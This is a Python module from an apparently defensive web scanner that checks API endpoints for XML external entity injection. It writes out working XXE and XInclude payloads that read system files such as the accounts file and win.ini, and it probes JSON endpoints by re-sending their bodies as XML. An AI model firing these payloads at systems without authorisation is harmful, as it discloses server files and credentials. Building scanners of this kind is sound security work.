"""XML whose entities fetch files (CWE-611): shown by a file that everybody knows. Nothing is asked of other hosts."""

from __future__ import annotations

import re
import secrets
from collections.abc import Callable, Iterator
from dataclasses import dataclass, replace
from functools import partial
from typing import Final
from xml.sax.saxutils import escape

import orjson

from setpoint.model.dast import BodyForm, Certainty, Exchange, Fault, Operation, Part, PartPlace, PlannedRequest
from setpoint.scan.dast.answers import is_success
from setpoint.scan.dast.checks.probing import Place, ask, parts_to_probe, places, request
from setpoint.scan.dast.checks.reflection.known_files import ACCOUNTS, WIN_INI, is_passwd, is_win_ini
from setpoint.scan.dast.checks.reflection.weaknesses import ENTITIES
from setpoint.scan.dast.interface import Workbench
from setpoint.scan.dast.naming import words_of
from setpoint.scan.dast.requests import written

XML_TYPES: Final = (BodyForm.XML.value, "text/xml")
"""Both are XML (RFC 7303); frameworks may know one of them alone."""

MOST_LEAVES: Final = 3
"""Of one document, that the entity is put into one by one."""

ROUNDS: Final = 3
"""Each with a name of its own for the file that is not there."""

_UNKNOWN_DOCUMENT: Final = "".join(
    f"<{name}>x</{name}>"
    for name in words_of("id name title text message value data query email username description content item")
)
"""Elements to choose from, for whoever reads a document of which nobody told its form."""

_ELEMENT: Final = re.compile(r"[A-Za-z_][\w.-]{0,60}")
_LEAF: Final = re.compile(r">([^<>]*)</")
_PROLOGUE: Final = re.compile(r"^\s*(?:<\?xml.*?\?>)?\s*(?:<!DOCTYPE[^>\[]*(?:\[.*?\])?\s*>)?", re.DOTALL)
_XML_WORDS: Final = frozenset(words_of("xml soap svg rss atom feed xslt xsl saml"))
_READERS: Final = frozenset(words_of("import importing parse parser convert converter feed xml soap validate upload"))
_CONTENTS: Final = frozenset(words_of("data document content body payload text file input source"))


@dataclass(frozen=True, slots=True)
class Carrier:
    """Where an XML document can be put."""

    place: Place
    sample: str
    """A document without its prologue that the operation takes."""
    send: Callable[[str], Exchange]
    is_body: bool = False
    """Whether it is all of the body."""


class ExternalEntities:
    """XML whose entities fetch files."""

    name = "external-entities"

    def plan(self, bench: Workbench) -> Iterator[PlannedRequest]:
        for operation in bench.surface.operations:
            parts = parts_to_probe(operation)
            many = sum(_speaks_of_xml(each) or _takes_document(operation, each) for each in parts)
            many += {BodyForm.XML: 1, BodyForm.JSON: 1, BodyForm.MULTIPART: 2}.get(operation.body, 0)
            if many and not bench.may_send(operation):
                yield PlannedRequest(
                    operation.key, self.name, "", many * (3 * (1 + MOST_LEAVES) + 3 + 2 * ROUNDS), 2 * many
                )

    def run(self, bench: Workbench) -> Iterator[Fault]:
        told: set[tuple[str, str]] = set()
        for carrier in _carriers(bench):
            at = (carrier.place.operation.key, carrier.place.told)
            fault = (_shown(carrier) or _told_apart(carrier)) if at not in told else None
            if fault:
                told.add(at)
                yield fault


def _carriers(bench: Workbench) -> Iterator[Carrier]:
    """Whole bodies once for each operation, of JSON, too; parts that hold XML; files."""
    whole: set[str] = set()
    for place in places(bench):
        operation = place.operation
        if operation.body is BodyForm.XML and place.part.place is PartPlace.BODY:
            if operation.key not in whole:
                whole.add(operation.key)
                yield _body(bench, place)
            continue
        if operation.body is BodyForm.JSON and operation.key not in whole:
            whole.add(operation.key)
            yield from _instead_of_json(bench, place)
        if operation.body is BodyForm.MULTIPART and place.part.schema.get("format") == "binary":
            yield Carrier(place, "<svg><title>x</title><text>x</text></svg>", partial(_file, bench, place, "svg"))
            yield Carrier(place, _sample(""), partial(_file, bench, place, "xml"))
        elif (
            place.value.lstrip().startswith("<") or _speaks_of_xml(place.part) or _takes_document(operation, place.part)
        ):
            yield Carrier(place, _sample(place.value), partial(ask, bench, place))


def _speaks_of_xml(part: Part) -> bool:
    return not _XML_WORDS.isdisjoint(words_of(part.name))


def _takes_document(operation: Operation, part: Part) -> bool:
    """A text of which its name says that it is one: what `POST /products/import` reads from `data` may be XML."""
    said = words_of(f"{operation.path} {operation.name}")
    is_text = part.place is PartPlace.BODY and part.schema.get("type", "string") == "string"
    return is_text and not _READERS.isdisjoint(said) and not _CONTENTS.isdisjoint(words_of(part.name))


def _body(bench: Workbench, place: Place) -> Carrier:
    def send(text: str) -> Exchange:
        return bench.sender.send(replace(request(bench, place, place.value), body=text.encode()))

    return Carrier(place, _sample(request(bench, place, place.value).body.decode(errors="replace")), send, is_body=True)


def _instead_of_json(bench: Workbench, place: Place) -> Iterator[Carrier]:
    """The same document as XML: many a framework reads whatever type a body says that it has."""
    usual = request(bench, place, place.value)
    sample = _as_xml(usual.body)

    def send(kind: str, text: str) -> Exchange:
        headers = [each for each in usual.headers if each[0].lower() != "content-type"]
        return bench.sender.send(replace(usual, headers=(*headers, ("content-type", kind)), body=text.encode()))

    for kind in XML_TYPES if sample else ():
        if is_success(send(kind, sample)):
            yield Carrier(place, sample, partial(send, kind), is_body=True)
            if place.operation.method in {"PUT", "PATCH"}:
                ask(bench, place, place.value)  # an own object as it was
            return


def _as_xml(body: bytes) -> str:
    """Of an object of JSON, its plain members; empty where it has none."""
    try:
        document = orjson.loads(body)
    except orjson.JSONDecodeError:
        return ""
    members = document.items() if isinstance(document, dict) else ()
    plain = [each for each in members if _ELEMENT.fullmatch(each[0]) and not isinstance(each[1], (dict, list))]
    inner = "".join(f"<{name}>{escape(written(value))}</{name}>" for name, value in plain)
    return f"<request>{inner}</request>" if inner else ""


def _file(bench: Workbench, place: Place, ending: str, text: str) -> Exchange:
    return ask(bench, place, {"filename": f"{secrets.token_hex(4)}.{ending}", "content": text})


def _sample(text: str) -> str:
    bare = _PROLOGUE.sub("", text, count=1).strip()
    return bare if bare.startswith("<") and _LEAF.search(bare) else f"<request>{_UNKNOWN_DOCUMENT}</request>"


def _filled(sample: str, leaf: int | None, content: str) -> str:
    """The document with this in the text of one of its leaves, or of all."""
    count = iter(range(len(sample)))
    return _LEAF.sub(lambda found: f">{content}</" if leaf in (None, next(count)) else found[0], sample)


def _declaring(entity: str, document: str) -> str:
    return f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e {entity}>]>{document}'


def _leaves(sample: str) -> list[int | None]:
    """Which to fill, one after the other; all at once first, which suffices where no leaf wants a form of its own."""
    many = len(_LEAF.findall(sample))
    return [None, *range(min(many, MOST_LEAVES))] if many > 1 else [None]


def _shown(carrier: Carrier) -> Fault | None:
    include = f'<i:include xmlns:i="http://www.w3.org/2001/XInclude" parse="text" href="file:///{ACCOUNTS}"/>'
    for leaf in _leaves(carrier.sample):
        filled = _filled(carrier.sample, leaf, "&e;")
        is_taken = False
        for document in (
            _declaring(f'SYSTEM "file:///{ACCOUNTS}"', filled),
            _declaring(f'SYSTEM "file:///c:/{WIN_INI}"', filled),
            _filled(carrier.sample, leaf, include),
        ):
            exchange = carrier.send(document)
            is_taken = is_taken or is_success(exchange)
            if exchange.answer is not None and (is_passwd(exchange.answer) or is_win_ini(exchange.answer)):
                return _fault(carrier, (exchange,), "the answer shows a file of the system", Certainty.CONFIRMED)
        if is_taken:  # no leaf wants a form of its own
            break
    return None


def _told_apart(carrier: Carrier) -> Fault | None:
    """Where nothing is shown: an empty file that is there is as good as an empty text, and one that is not fails."""
    filled = _filled(carrier.sample, len(_LEAF.findall(carrier.sample)) - 1, "&e;")
    if not is_success(carrier.send(_declaring('""', filled))):
        return None
    proof: tuple[Exchange, ...] = ()
    for _ in range(ROUNDS):
        there = carrier.send(_declaring('SYSTEM "file:///dev/null"', filled))
        absent = carrier.send(_declaring(f'SYSTEM "file:///dev/{secrets.token_hex(6)}"', filled))
        if not is_success(there) or absent.answer is None or is_success(absent):
            return None
        proof = (there, absent)
    difference = f"{ROUNDS} times, a file that is there was read, and one that is not was answered with an error"
    return _fault(carrier, proof, difference, Certainty.DIFFERENTIAL)


def _fault(carrier: Carrier, proof: tuple[Exchange, ...], difference: str, certainty: Certainty) -> Fault:
    place = carrier.place
    part = f"{PartPlace.BODY}:" if carrier.is_body else place.told
    return ENTITIES.fault_at(place.operation, part, proof, difference, certainty=certainty)
